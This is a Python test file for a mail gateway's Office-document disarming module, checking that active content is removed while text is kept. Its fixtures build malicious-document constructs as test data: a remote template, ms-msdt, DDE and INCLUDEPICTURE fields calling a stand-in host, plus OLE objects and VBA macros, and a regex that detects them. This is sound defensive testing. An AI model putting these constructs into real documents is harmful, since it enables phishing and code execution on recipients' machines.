"""Nothing active survives, looked at by other programs; what people read stays."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx as python_docx
import openpyxl
import pptx
import pytest
from lxml import etree

from sekisho.gates.mail.disarmed.office import disarmed, renamed
from sekisho.gates.mail.opened import File, opened
from sekisho.rulebook import Rulebook
from tests.gates.mail import VBA, WORD_MACRO, docm, docx, mail, relation, rulebook

TEMPLATE = relation("attachedTemplate", "https://evil.test/t.dotm", outside=True)
OLE = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    'r:id="rId9"/></w:object></w:r></w:p>'
)
BLIP = (
    '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'r:link="rId9"/></w:drawing></w:r></w:p>'
)
SUSPECT = re.compile(
    rb"vbaProject|macroEnabled|macrosheet|attachedTemplate|oleObject|activeX|evil\.test"
)
ACTIVE = [
    docm(),
    docx(TEMPLATE),
    docx(TEMPLATE, encoding="utf-16"),
    docx(relation("oleObject", "embeddings/oleObject1.bin"), inside=OLE,
         parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    docx(relation("image", "https://evil.test/a.png", outside=True), inside=BLIP),
    docx(relation("hyperlink", "ms-msdt:/id evil.test", outside=True)),
    docx(relation("aFChunk", "afchunk1.mht"), parts={"word/afchunk1.mht": b"evil.test"}),
    docx(inside="<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO evil.test"
         "</w:instrText></w:r></w:p>"),
    docx(inside='<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.test/&quot;"/></w:p>'),
    docx(relation("vbaProject", "x.dat"), parts={"word/vbaProject.bin": b"\0"},
         main=WORD_MACRO, more=VBA),
]  # fmt: skip


@pytest.fixture(scope="module")
def rules(tmp_path_factory: pytest.TempPathFactory) -> Rulebook:
    return rulebook(tmp_path_factory.mktemp("rules"))


def file_of(name: str, content: bytes) -> File:
    return opened(mail((name, content))).files[0]


@pytest.mark.parametrize("content", ACTIVE)
def test_nothing_active_survives_and_the_text_does(content: bytes, rules: Rulebook) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as old:
        assert any(SUSPECT.search(old.read(name).replace(b"\0", b"")) for name in old.namelist())
    clean = disarmed(file_of("a.docm", content), rules)
    assert clean is not None
    with zipfile.ZipFile(io.BytesIO(clean)) as new:
        for name in new.namelist():
            assert not SUSPECT.search(name.encode())
            assert not SUSPECT.search(new.read(name)), name
            etree.fromstring(new.read(name))
    texts = [one.text for one in python_docx.Document(io.BytesIO(clean)).paragraphs]
    assert "回覧の本文" in texts


def test_a_workbook_opens_without_its_macros_and_outer_links(rules: Rulebook) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "世帯数"
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as plain:
        parts = {name: plain.read(name) for name in plain.namelist()}
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink><ddeLink/></externalLink>"
    rels = "xl/_rels/workbook.xml.rels"
    further = relation("vbaProject", "vbaProject.bin", number="rId97") + relation(
        "externalLink", "externalLinks/externalLink1.xml", number="rId98"
    )
    parts[rels] = parts[rels].replace(b"</Relationships>", further.encode() + b"</Relationships>")
    linked = (
        b'<externalReferences><externalReference r:id="rId98" xmlns:r="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships"/></externalReferences></workbook>'
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</workbook>", linked)
    types = "[Content_Types].xml"
    parts[types] = parts[types].replace(
        b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    clean = disarmed(file_of("a.xlsm", packed.getvalue()), rules)
    assert clean is not None
    assert openpyxl.load_workbook(io.BytesIO(clean)).active["A1"].value == "世帯数"
    with zipfile.ZipFile(io.BytesIO(clean)) as new:
        assert not {"xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml"} & set(new.namelist())
        assert b"externalReference" not in new.read("xl/workbook.xml")


@pytest.mark.parametrize(
    "content",
    [
        docx(TEMPLATE)[:-30],
        b"PK\x03\x04",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        docx(TEMPLATE, parts={"word/_rels/x.xml.rels": b"<broken"}),
        b"",
    ],
)
def test_what_cannot_be_vouched_for_is_none(content: bytes, rules: Rulebook) -> None:
    assert disarmed(file_of("a.docm", content), rules) is None


def test_names() -> None:
    assert [renamed(one) for one in ("a.docm", "B.XLSM", "a.docx", "a.xlsb", "a.potm")] == [
        "a.docx", "B.xlsx", "a.docx", "a.xlsb", "a.potx",
    ]  # fmt: skip


def words(content: bytes) -> list[str]:
    """All text of a package by hand: what stands between the tags of its XML."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.endswith(".xml") and not name.startswith(("[", "META-INF", "docProps")):
                root = etree.fromstring(package.read(name))
                # what a field asks for is no text that people read
                etree.strip_elements(root, "{*}instrText", with_tail=False)
                found += "".join(root.itertext()).split()
    return found


def opens(content: bytes, suffix: str) -> bool:
    """Whether the usual library opens it."""
    try:
        if suffix == ".docx":
            python_docx.Document(io.BytesIO(content))
        elif suffix == ".xlsx":
            openpyxl.load_workbook(io.BytesIO(content))
        elif suffix == ".pptx":
            pptx.Presentation(io.BytesIO(content))
    except Exception:  # noqa: BLE001  (whatever it is, the other must not be worse)
        return False
    return True


def test_ordinary_documents_keep_their_text(shared: Path, rules: Rulebook) -> None:
    tried = 0
    for path in sorted((shared / "data" / "docs-office").rglob("*")):
        if path.suffix.lower() not in (".docx", ".xlsx", ".pptx", ".odt", ".ods", ".odp"):
            continue
        data = path.read_bytes()
        clean = disarmed(file_of(path.name, data), rules)
        if clean is None:
            continue
        before = words(data)
        assert len(words(clean)) >= 0.95 * len(before), path
        tried += 1
        if opens(data, path.suffix):
            assert opens(clean, path.suffix), path
    assert tried >= 40
